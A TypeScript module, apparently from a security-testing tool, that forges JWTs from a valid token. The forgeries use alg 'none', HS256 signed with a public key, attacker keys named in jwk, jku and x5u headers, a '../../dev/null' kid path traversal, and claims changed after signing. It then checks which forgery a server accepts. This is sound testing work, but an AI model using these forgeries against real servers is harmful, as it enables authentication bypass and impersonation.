/** Forged JWTs, each made from a valid one. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { decodeJwt, decodeProtectedHeader, type JWK } from 'jose';
import { send } from '../http.js';
import {
  type KeyPair,
  type Members,
  newKey,
  publicKeyAsSecrets,
  sign,
  signedByHMAC,
  unsigned,
  withClaims,
} from './jwt.js';

type Forge = (good: string) => Promise<string> | string;

/** A forgery: what is wrong with the JWT, and the function that makes it from a valid one. */
export type Forgery = readonly [what: string, forge: Forge];

/** The attacker's own key, and a server that offers it. */
export interface OwnKey {
  readonly key: KeyPair;
  readonly url: string;
  /** How often the key was requested. */
  asked(): number;
}

/** Makes a JWT with another header and the same claims. */
const remade =
  (make: (header: Members, claims: Members) => Promise<string> | string): Forge =>
  (good) =>
    make(decodeProtectedHeader(good) as Members, decodeJwt(good) as Members);

/** RFC 8725 §2.1: a server that accepts any algorithm may use its copy of a public key as the secret of an HMAC. */
function byPublicKeys(keys: readonly JWK[], whose: string): readonly Forgery[] {
  return keys.flatMap((key) =>
    publicKeyAsSecrets(key).map(
      (secret): Forgery => [
        `is signed by HS256, with ${whose} public key as the secret`,
        remade((header, claims) => signedByHMAC({ ...header, ...(key.kid && { kid: key.kid }) }, claims, secret)),
      ],
    ),
  );
}

/** RFC 8725 §3.10: headers by which the attacker chooses the key of the verification. */
function byOwnKey({ key, url }: OwnKey): readonly Forgery[] {
  const signed = (more: Members): Forge =>
    remade((header, claims) => sign({ ...header, alg: key.alg, ...more }, claims, key));
  return [
    ['is signed by another key of the same kid', signed({})],
    ['is signed by a key that it brings in its header (jwk)', signed({ jwk: key.publicJWK })],
    ['is signed by a key at a URL that its header names (jku)', signed({ jku: url, kid: key.kid })],
    ['names a URL of a certificate in its header (x5u)', signed({ x5u: url, kid: key.kid })],
  ];
}

/**
 * @param keys the public keys of the party whose signature is required
 * @param serverKeys the keys that the server publishes
 * @param change claims that are changed after the JWT was signed
 */
export function forgeriesOf(
  keys: readonly JWK[],
  serverKeys: readonly JWK[],
  change: Members,
  own: OwnKey,
): readonly Forgery[] {
  return [
    ['has no signature (alg none)', remade(unsigned)],
    ...byPublicKeys(keys, 'the right'),
    ...byPublicKeys(serverKeys, "the server's"),
    ...byOwnKey(own),
    [
      'names an empty file as its key (kid), and is signed by HS256 with an empty secret',
      remade((header, claims) => signedByHMAC({ ...header, kid: '../../../../../../dev/null' }, claims, '')),
    ],
    ['was changed after it was signed', (good) => withClaims(good, change)],
  ];
}

/** The keys that a server publishes; none if it has no jwks_uri. */
export async function publishedKeys(uri: unknown): Promise<readonly JWK[]> {
  if (typeof uri !== 'string') return [];
  const { text } = await send(uri);
  const { keys } = Object(JSON.parse(text)) as { readonly keys?: readonly JWK[] };
  return (keys ?? []).filter(({ kty }) => kty !== 'oct');
}

/** Offers a key of the attacker at a URL of this machine while `use` runs. */
export async function withOwnKey<T>(use: (own: OwnKey) => Promise<T>): Promise<T> {
  const key = await newKey('ES256', 'attacker');
  let count = 0;
  const http = createServer((_request, response) => {
    count += 1;
    const jwk = { ...key.publicJWK, kid: key.kid, alg: key.alg, use: 'sig' };
    response.setHeader('content-type', 'application/json').end(JSON.stringify({ keys: [jwk] }));
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  const { port } = http.address() as AddressInfo;
  try {
    return await use({ key, url: `http://127.0.0.1:${port}/jwks`, asked: () => count });
  } finally {
    http.closeAllConnections();
    http.close();
  }
}

/**
 * The first forgery that the server accepted; undefined if it accepted none. It is also a success of the attack if the server requested the attacker's key,
 * since it then sends requests for strangers.
 *
 * @param good makes a new valid JWT
 */
export async function firstTaken(
  forgeries: readonly Forgery[],
  own: OwnKey,
  good: () => Promise<string>,
  isTaken: (jwt: string) => Promise<boolean>,
): Promise<string | undefined> {
  for (const [what, forge] of forgeries) {
    if (await isTaken(await forge(await good()))) return `was taken that ${what}`;
    if (own.asked() > 0) return `made the server send a request to the attacker: it ${what}`;
  }
  return undefined;
}
